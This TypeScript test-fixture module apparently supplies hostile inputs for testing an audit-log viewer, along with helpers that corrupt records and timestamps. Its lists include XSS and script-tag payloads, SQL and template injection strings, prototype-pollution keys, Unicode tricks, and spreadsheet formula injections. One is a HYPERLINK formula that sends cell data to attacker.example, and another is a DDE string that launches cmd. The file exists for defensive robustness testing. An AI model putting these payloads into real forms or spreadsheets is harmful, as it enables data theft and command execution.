import type { Random } from "./random.js";
import type { WireRecord } from "../types.js";

/** Texts that attackers type into a sign-in form; a viewer must show them as text. */
export const HOSTILE_USERS: readonly string[] = [
  "admin\u202Enimda",
  "ma\u200Bria.\u200Dortiz",
  "bell\u0007tab\tnull\u0000",
  "<img src=x onerror=alert(document.domain)>",
  '=HYPERLINK("https://attacker.example/?x="&A1,"Open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+15551234567",
  "line one\r\nline two",
  "' OR 1=1 --",
  "${7*7}{{7*7}}",
  "🧑‍🚒🏳️‍🌈",
  "x".repeat(300),
];

/** Details that break a careless viewer. They are parsed, because a literal `__proto__` would set the prototype. */
export const HOSTILE_DETAILS: readonly Record<string, unknown>[] = [
  '{"__proto__": {"polluted": true}, "constructor": "x", "toString": "y"}',
  '{"note": "<script>alert(1)</script>", "<b>name</b>": "1 < 2 && 3 > 2"}',
  '{"formula": "=1+1", "at": "@now", "minus": "-2+3", "phone": "+15551234567"}',
  '{"": "a parameter without a name", "  spaced  ": " kept "}',
  '{"deep": {"a": {"b": {"c": {"d": [1, [2, [3, {"e": null}]]]}}}}}',
  '{"direction": "\\u202Eesrever\\u202C", "zero-width": "a\\u200Bb", "control": "\\u0000\\u001B[31m"}',
  '{"emoji": "👩‍👩‍👧‍👦", "arabic": "قاعدة الرد", "hebrew": "כלל מענה", "lone": "\\uD83D"}',
  '{"quote\\"d,name": "a \\"quoted\\", value\\r\\nwith a second line"}',
  JSON.stringify({ ["long".repeat(30)]: "v".repeat(300), list: Array.from({ length: 60 }, (_, index) => index) }),
  '{"number": 12345678901234567890, "small": 1e-7, "true": true, "false": false, "null": null, "empty": "", "none": []}',
].map((text) => JSON.parse(text) as Record<string, unknown>);

const OPTIONAL_FIELDS = ["by-ip", "by-domain", "by-user", "by-client", "target-host", "target-user"] as const;

/** Changes a record as real servers do: a field is missing, empty, null or a number. */
export function damageRecord(random: Random, record: WireRecord): void {
  const field = random.pick(OPTIONAL_FIELDS);
  switch (random.int(0, 5)) {
    case 0:
      delete record[field];
      break;
    case 1:
      record[field] = "";
      break;
    case 2:
      record[field] = null;
      break;
    case 3:
      record["target-user"] = random.int(100, 1999);
      break;
    case 4:
      // Numbers as text.
      record["auditlog-details"] = { user: String(random.int(100, 1999)), "limits-max-active-calls-total": "10" };
      break;
    default:
      record["auditlog-details"] = "";
  }
}

/** Removes a record's timestamp, or makes it unreadable. */
export function makeTimeUnreadable(record: WireRecord, index: number): void {
  const unreadable = ["0000-00-00 00:00:00", "", "yesterday", null] as const;
  if (index % 5 === 0) delete record["timestamp-datetime"];
  else record["timestamp-datetime"] = unreadable[(index - 1) % 5];
}
